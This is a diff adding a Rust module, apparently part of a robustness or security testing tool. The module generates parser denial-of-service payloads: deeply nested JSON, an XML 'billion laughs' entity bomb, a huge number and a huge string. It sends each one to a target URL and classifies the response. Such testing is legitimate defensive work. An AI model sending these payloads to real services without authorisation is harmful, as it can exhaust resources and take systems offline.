@@ -0,0 +1,98 @@
+use crate::{classify, send_payload, target_url, Payload};
+use common::{env::Env, Result};
+use std::{cmp::max, iter};
+
+const JSON: &str = "application/json";
+const XML: &str = "application/xml";
+
+const NESTING_DEPTH: usize = 100_000;
+const ENTITY_LEVELS: usize = 10;
+// 2^20
+const NUMBER_DIGITS: usize = 0x0010_0000;
+// 2^24
+const STRING_LENGTH: usize = 0x0100_0000;
+
+pub(crate) async fn parser_payloads(env: &Env) -> Result<i32> {
+    let payloads = [
+        nested_json_arrays(),
+        nested_json_objects(),
+        billion_laughs(),
+        huge_number(),
+        long_string(),
+    ];
+    let mut code = 0;
+    for payload in &payloads {
+        let response = send_payload(env, target_url(env), payload).await?;
+        code = max(code, classify(env, payload.name, response).await);
+    }
+    Ok(code)
+}
+
+/// `[[[...]]]`
+fn nested_json_arrays() -> Payload {
+    let mut data = vec![b'['; NESTING_DEPTH];
+    data.extend(iter::repeat(b']').take(NESTING_DEPTH));
+    Payload {
+        name: "nested json arrays",
+        content_type: JSON,
+        content_encoding: None,
+        data,
+    }
+}
+
+/// `{"a":{"a":...1}}`
+fn nested_json_objects() -> Payload {
+    let mut data = b"{\"a\":".repeat(NESTING_DEPTH);
+    data.push(b'1');
+    data.extend(iter::repeat(b'}').take(NESTING_DEPTH));
+    Payload {
+        name: "nested json objects",
+        content_type: JSON,
+        content_encoding: None,
+        data,
+    }
+}
+
+/// Every entity references the previous one ten times, so the last
+/// one expands to `10^ENTITY_LEVELS` laughs
+fn billion_laughs() -> Payload {
+    let mut xml = String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n");
+    xml.push_str(" <!ENTITY lol0 \"lol\">\n");
+    for level in 1..ENTITY_LEVELS {
+        let references = format!("&lol{};", level - 1).repeat(10);
+        xml.push_str(&format!(" <!ENTITY lol{} \"{}\">\n", level, references));
+    }
+    xml.push_str(&format!("]>\n<lolz>&lol{};</lolz>\n", ENTITY_LEVELS - 1));
+    Payload {
+        name: "billion laughs",
+        content_type: XML,
+        content_encoding: None,
+        data: xml.into_bytes(),
+    }
+}
+
+/// `{"a":999...}`
+fn huge_number() -> Payload {
+    let mut data = b"{\"a\":".to_vec();
+    data.extend(iter::repeat(b'9').take(NUMBER_DIGITS));
+    data.push(b'}');
+    Payload {
+        name: "huge number",
+        content_type: JSON,
+        content_encoding: None,
+        data,
+    }
+}
+
+/// `{"a":"aaa..."}`
+fn long_string() -> Payload {
+    let mut data = b"{\"a\":\"".to_vec();
+    data.extend(iter::repeat(b'a').take(STRING_LENGTH));
+    data.extend_from_slice(b"\"}");
+    Payload {
+        name: "long string",
+        content_type: JSON,
+        content_encoding: None,
+        data,
+    }
+}